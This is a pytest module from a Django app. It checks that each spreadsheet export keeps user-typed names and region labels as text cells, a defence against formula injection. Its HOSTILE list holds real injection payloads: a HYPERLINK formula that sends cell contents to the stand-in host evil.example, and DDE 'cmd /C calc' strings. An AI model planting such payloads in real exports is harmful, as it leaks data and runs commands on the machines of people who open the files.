"""Excel exports write what people typed as text, never as a formula (security 33, OWASP "CSV/formula injection").

A name or a region typed as ``=HYPERLINK(…)``, ``+…``, ``-…``, ``@…`` or behind a tab or a carriage
return comes out of every export as a string cell: no ``<f>`` element in any sheet, the value intact.
The route inventory below fails when an export is added that this test does not cover.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from accounts.models import Region
from records.models import Archive
from tests.factories import login_staff, make_accountant, make_collection

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"查看")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
EXPORTS = {"workbench_export", "accounts:dashboard_reviews_xlsx", "accounts:dashboard_cpe_xlsx",
           "employer_people_export"}


def routes(resolver=None, namespace=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            yield from routes(entry, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
        elif isinstance(entry, URLPattern):
            yield f"{namespace}{entry.name or ''}", str(entry.pattern)


def test_every_spreadsheet_export_is_covered_here():
    """Every route that serves a spreadsheet (.xlsx/.csv or named export) is one this module checks."""
    found = {name for name, pattern in routes()
             if any(mark in f"{name} {pattern}".lower() for mark in (".xlsx", ".csv", "xlsx", "csv", "export"))}
    assert found == EXPORTS


def text_cells(content: bytes, starts: list[str]) -> dict[str, str]:
    """{hostile value: its cell's data type} for the cells that begin with a hostile value; no formula anywhere."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                xml = package.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    found = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                for start in starts:
                    # openpyxl writes a carriage return as _x000D_ and reads it back as "\r", while some readers
                    # fold it to "\n": accept either, the cell is text both ways
                    if isinstance(cell.value, str) and (cell.value.startswith(start)
                                                        or cell.value.startswith(start.replace("\r", "\n"))):
                        found[start] = cell.data_type
    return found


def test_the_review_queue_export_keeps_typed_names_as_text(client, county_reviewer):
    """Names in /workbench/export.xlsx (审核工作台) stay text cells, whatever they begin with."""
    for i, value in enumerate(HOSTILE):
        person = make_accountant(sequence=300 + i, name=f"人{i}", mobile=f"1390000{i:04d}")
        make_collection(person)
        Archive.objects.filter(person=person).update(name=value)
    login_staff(client, county_reviewer)
    response = client.get("/workbench/export.xlsx")
    assert response.status_code == 200
    assert text_cells(response.content, HOSTILE) == dict.fromkeys(HOSTILE, "s")


def test_the_dashboard_exports_keep_region_names_as_text(client, province_staff):
    """Region labels in /dashboard/reviews.xlsx and /dashboard/cpe/<year>.xlsx (统计看板) stay text cells."""
    from cpe.models import CEYear

    cities = list(Region.objects.filter(parent_id="140000").order_by("code")[:len(HOSTILE)])
    for city, value in zip(cities, HOSTILE, strict=True):
        Region.objects.filter(pk=city.pk).update(name=value)
    login_staff(client, province_staff)
    year = CEYear.objects.order_by("-year").values_list("year", flat=True).first()
    for url in ("/dashboard/reviews.xlsx", f"/dashboard/cpe/{year}.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert text_cells(response.content, HOSTILE) == dict.fromkeys(HOSTILE, "s"), url


def test_the_employer_export_keeps_typed_names_as_text(client):
    """Names and unit names in /employer/people.xlsx (本单位会计人员) stay text cells."""
    from employers.models import EmployerUnit
    from tests.factories import make_active_archive, make_staff, valid_credit_code

    for i, value in enumerate(HOSTILE):
        archive = make_active_archive(make_accountant(sequence=320 + i, name=f"人{i}", mobile=f"1390001{i:04d}"))
        Archive.objects.filter(pk=archive.pk).update(name=value, employer_name=value)
    employer = make_staff("danwei_hostile", "employer", "140502")
    EmployerUnit.objects.create(user=employer, credit_code=valid_credit_code())  # the factories' unit
    login_staff(client, employer)
    response = client.get("/employer/people.xlsx")
    assert response.status_code == 200
    assert text_cells(response.content, HOSTILE) == dict.fromkeys(HOSTILE, "s")
